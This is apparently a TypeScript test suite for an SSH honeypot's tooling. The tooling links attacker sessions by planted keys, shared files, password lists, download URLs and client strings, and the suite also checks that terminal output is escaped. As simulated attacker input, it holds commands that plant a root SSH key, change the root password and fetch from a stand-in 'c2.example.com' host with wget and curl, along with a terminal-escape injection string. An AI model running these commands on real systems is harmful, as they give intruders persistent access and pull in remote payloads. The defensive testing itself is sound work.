import assert from "node:assert/strict";
import { test } from "node:test";
import { linksAsText } from "../../gateway/commands/links-text.ts";
import { addressKey } from "../../gateway/index/address.ts";
import {
  belongingsOf,
  holdingsOfFile,
  holdingsOfKey,
  plantingsOfKey,
} from "../../gateway/index/link-about.ts";
import { sessionsOf, textId } from "../../gateway/index/link-own.ts";
import { linksOf, type Links } from "../../gateway/index/links.ts";
import { LINK_RULES } from "../../gateway/index/link-rules.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import type { Attempt } from "../../gateway/model/entries.ts";
import { file, Told } from "./told.ts";

const [ONE, OTHER, THIRD] = ["192.0.2.1", "192.0.2.2", "192.0.2.3"] as const;

function linksOfSource(told: Told, source: string): Links {
  const key = addressKey(source);
  assert.ok(key !== undefined);
  return linksOf(told.reader.ask, sessionsOf(told.reader.ask, key), source);
}

const kinds = ({ links }: Links) =>
  links.map(({ source, strength, reasons }) => [source, strength, reasons.map(({ kind }) => kind)]);

/** Of a key, in its wire form. */
const BLOB = "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";

function showsKey(
  talk: Parameters<Parameters<Told["session"]>[1]>[0],
  fingerprint: string,
  outcome: "accepted" | "refused",
) {
  const key: NonNullable<Attempt["key"]> = {
    algorithm: toByteString(Buffer.from("ssh-ed25519")),
    blob: BLOB,
    fingerprintMd5: "aa:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd:ee:ff",
    fingerprintSha256: fingerprint,
    signed: true,
  };
  const user = toByteString(Buffer.from("root"));
  talk.fact({ kind: "attempt", number: 1, user, method: "publickey", key });
  talk.fact({ kind: "answer", attempt: 1, outcome, by: "sandbox" });
  if (outcome === "accepted") talk.leased().fact({ kind: "logged-in", user, method: "publickey" });
}

test("a key that one source planted and another came with is the strongest link", async () => {
  const told = new Told();
  const plants = await told.session(ONE, (talk) => {
    talk.login().exec(talk.open(), `echo ssh-ed25519 ${BLOB} me@home >> /root/.ssh/authorized_keys`);
  });
  const planted = [...told.reader.matches(plants, [{ kinds: ["ssh-key"], how: "part", value: "SHA256:" }])];
  const fingerprint = planted[0]?.text ?? "";
  assert.match(fingerprint, /^SHA256:[A-Za-z0-9+/]{43}$/);
  const comes = await told.session(OTHER, (talk) => {
    showsKey(talk.hello(), fingerprint, "accepted");
  });
  await told.session(THIRD, (talk) => talk.hello("SSH-2.0-other").password("pi", "x", "refused"));
  const links = linksOfSource(told, OTHER);
  assert.equal(links.links[0]?.source, ONE);
  assert.equal(links.links[0].strength, "strong");
  const [reason] = links.links[0].reasons;
  assert.deepEqual(
    [reason?.kind, reason?.value, reason?.ours, reason?.theirs],
    ["planted-key-used", fingerprint, comes, plants],
  );
  assert.equal(
    linksOfSource(told, ONE).links[0]?.reasons[0]?.kind,
    "planted-key-used",
    "from the other side",
  );
  const { ask } = told.reader;
  const ids = [textId(ask, "ssh-key", fingerprint) ?? 0, textId(ask, "key", fingerprint) ?? 0] as const;
  assert.deepEqual(
    [...plantingsOfKey(ask, ids[0]), ...holdingsOfKey(ask, ids[1], fingerprint)].map((one) => [one.source, one.how]),
    [[ONE, "planted"], [OTHER, "logged in with"]],
  ); // prettier-ignore
});

test("the same file, brought by one and left by another; an empty one says nothing", async () => {
  const told = new Told();
  const content = "#!/bin/sh\necho x\n";
  const { sha256 = "" } = file("", content);
  const brings = await told.session(ONE, (talk) => {
    const channel = talk.login().open();
    talk
      .exec(channel, "scp -t /tmp")
      .sends(channel, `C0755 ${content.length} x\n${content}\0`)
      .exits(channel, 0);
  });
  const leaves = await told.session(OTHER, (talk) => talk.login());
  told.capture(leaves, "0b0b0b0b0b0b", OTHER, [file("/tmp/y", content), file("/tmp/z", "")]);
  const other = await told.session(THIRD, (talk) => talk.login());
  told.capture(other, "0c0c0c0c0c0c", THIRD, [file("/tmp/empty", "")]);
  const links = linksOfSource(told, OTHER);
  const to = (source: string) => links.links.find((link) => link.source === source);
  assert.equal(to(ONE)?.reasons[0]?.kind, "same-artifact");
  assert.equal(to(ONE)?.reasons[0]?.theirs, brings);
  assert.ok(to(THIRD)?.reasons.every(({ kind }) => kind !== "same-artifact") ?? true);
  assert.deepEqual(
    holdingsOfFile(told.reader.ask, sha256).map(({ source, how }) => [source, how]),
    [[ONE, "uploaded"], [OTHER, "left in the sandbox"]],
  ); // prettier-ignore
  assert.equal(belongingsOf(told.reader.ask, [leaves]).artifacts[0]?.sha256.length, 64);
});

test("lists of credentials: the same one, a part of one, and what everybody tries", async () => {
  const told = new Told();
  const tries = (source: string, passwords: readonly string[], version: string) =>
    told.session(source, (talk) => {
      talk.hello(version);
      for (const password of passwords) talk.password("root", password, "refused");
    });
  const list = ["123456", "zq1", "zq2", "zq3", "zq4"];
  // Each has a client of its own kind, so that nothing else links them.
  await tries(ONE, list, "SSH-2.0-a");
  await tries(OTHER, list, "SSH-2.0-b");
  await tries(THIRD, ["zq4", "zq3", "zq2", "own1", "own2"], "SSH-2.0-c");
  for (let more = 0; more < 30; more++)
    await tries(`198.51.100.${more}`, ["123456", `own-${more}`], `SSH-2.0-${more}`);
  assert.deepEqual(kinds(linksOfSource(told, ONE)), [
    [OTHER, "strong", ["same-list", "same-list"]],
    [THIRD, "likely", ["shared-credentials"]],
  ]);
  const popular = linksOfSource(told, "198.51.100.3");
  assert.deepEqual(popular.links, []);
  assert.ok(popular.common > 0, "root / 123456 is told to be common");
});

test("one pair in each session: the list is the source's", async () => {
  const told = new Told();
  for (const password of ["w1", "w2", "w3", "w4"])
    for (const source of [ONE, OTHER])
      await told.session(source, (talk) => talk.hello(source).password("pi", password, "refused"));
  const [link] = linksOfSource(told, ONE).links;
  assert.equal(link?.source, OTHER);
  assert.deepEqual(
    link.reasons.map(({ kind }) => kind),
    ["same-list"],
  );
});

test("a password that one set and another tried; the same URL; the same sandbox; a rare client", async () => {
  const told = new Told();
  await told.session(ONE, (talk) => {
    talk.login().exec(talk.open(), "echo root:Tr0ub4dor | chpasswd; wget http://c2.example.com/a");
  });
  await told.session(OTHER, (talk) => talk.login("root", "Tr0ub4dor").exec(talk.open(), "curl http://c2.example.com/a")); // prettier-ignore
  const [link] = linksOfSource(told, OTHER).links;
  const found = new Set(link?.reasons.map(({ kind }) => kind));
  for (const kind of ["changed-password-used", "same-indicator", "same-sandbox", "same-client"] as const)
    assert.ok(found.has(kind), `${kind} in ${[...found].join()}`);
  assert.equal(link?.reasons[0]?.kind, "changed-password-used");
});

test("a client that many have links nobody, and is only ever a weak reason", async () => {
  const told = new Told();
  for (let one = 0; one < LINK_RULES["same-client"].common + 3; one++)
    await told.session(`198.51.100.${one}`, (talk) => talk.hello());
  assert.deepEqual(linksOfSource(told, "198.51.100.1"), { links: [], common: 1 });
  const few = new Told();
  for (const source of [ONE, OTHER]) await few.session(source, (talk) => talk.hello("SSH-2.0-rare"));
  assert.deepEqual(kinds(linksOfSource(few, ONE)), [[OTHER, "weak", ["same-client"]]]);
});

test("what is told is safe for a terminal", async () => {
  const told = new Told();
  const hostile = "\x1b[2J\u202e\n`|";
  for (const source of [ONE, OTHER])
    await told.session(source, (talk) =>
      talk.hello(`SSH-2.0-${hostile}`).password(hostile, hostile, "accepted"),
    );
  const key = addressKey(ONE);
  assert.ok(key !== undefined);
  const sessions = sessionsOf(told.reader.ask, key);
  const linked = {
    about: "source" as const,
    value: ONE,
    own: belongingsOf(told.reader.ask, sessions),
    links: linksOfSource(told, ONE),
  };
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(linksAsText(linked, 20), /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
});
